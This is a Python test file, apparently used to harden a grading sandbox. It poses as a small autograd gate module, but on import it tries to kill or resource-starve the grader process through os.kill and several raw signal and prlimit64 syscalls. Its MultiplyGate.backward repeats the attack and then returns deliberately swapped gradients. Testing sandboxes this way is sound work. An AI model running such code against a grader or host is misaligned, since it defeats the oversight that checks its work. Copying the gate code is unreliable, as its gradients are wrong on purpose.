"""Attack: signal, or change the resource limits of, processes outside the sandbox.

Targets the grader itself (the parent process) unless attack.json names a
"victim" pid, in which case only the victim is targeted (so a test can watch a
harmless process instead of being killed). Routes: os.kill (audited), and through
ctypes the raw kill, tgkill, tkill and pidfd_send_signal system calls, plus
prlimit64 setting the target's RLIMIT_CPU to 1 s and RLIMIT_FSIZE to 0.
The signal is SIGKILL. Prints each route's outcome.
MultiplyGate.backward repeats the attempt, then returns wrong gradients.
"""
import ctypes
import json
import os
import platform
import signal

print("pid=%d" % os.getpid())
print("scratch=%s" % os.getcwd(), flush=True)

libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() in ("aarch64", "arm64")
NR = ({"kill": 129, "tgkill": 131, "tkill": 130, "pidfd_open": 434, "pidfd_send_signal": 424,
       "prlimit64": 261} if ARM else
      {"kill": 62, "tgkill": 234, "tkill": 200, "pidfd_open": 434, "pidfd_send_signal": 424,
       "prlimit64": 302})

try:
    with open("attack.json") as f:
        TARGET = int(json.load(f)["victim"])
except (OSError, ValueError, KeyError):
    TARGET = os.getppid()


class RLimit(ctypes.Structure):
    _fields_ = [("cur", ctypes.c_uint64), ("max", ctypes.c_uint64)]


def sys_call(name, *args):
    r = libc.syscall(NR[name], *args)
    return r if r >= 0 else -ctypes.get_errno()


def attack():
    sig = signal.SIGKILL
    try:
        os.kill(TARGET, sig)
        print("SIGNALLED via os.kill")
    except BaseException as exc:
        print("blocked os.kill: %s" % exc)
    results = {
        "kill": sys_call("kill", TARGET, sig),
        "tgkill": sys_call("tgkill", TARGET, TARGET, sig),
        "tkill": sys_call("tkill", TARGET, sig),
    }
    fd = sys_call("pidfd_open", TARGET, 0)
    results["pidfd_send_signal"] = sys_call("pidfd_send_signal", fd, sig, None, 0) if fd >= 0 else fd
    results["prlimit64 RLIMIT_FSIZE"] = sys_call("prlimit64", TARGET, 1, ctypes.byref(RLimit(0, 0)), None)
    results["prlimit64 RLIMIT_CPU"] = sys_call("prlimit64", TARGET, 0, ctypes.byref(RLimit(1, 1)), None)
    for name, r in results.items():
        print("%s %s: %s" % ("SUCCEEDED" if r >= 0 else "blocked", name,
                             r if r >= 0 else os.strerror(-r)))


attack()


class MultiplyGate(object):
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dz):
        if not getattr(MultiplyGate, "done", False):
            MultiplyGate.done = True
            attack()
        return [self.x * dz, self.y * dz]  # wrong: swapped


class AddGate(object):
    def forward(self, x, y):
        return x + y

    def backward(self, dz):
        return [dz, dz]
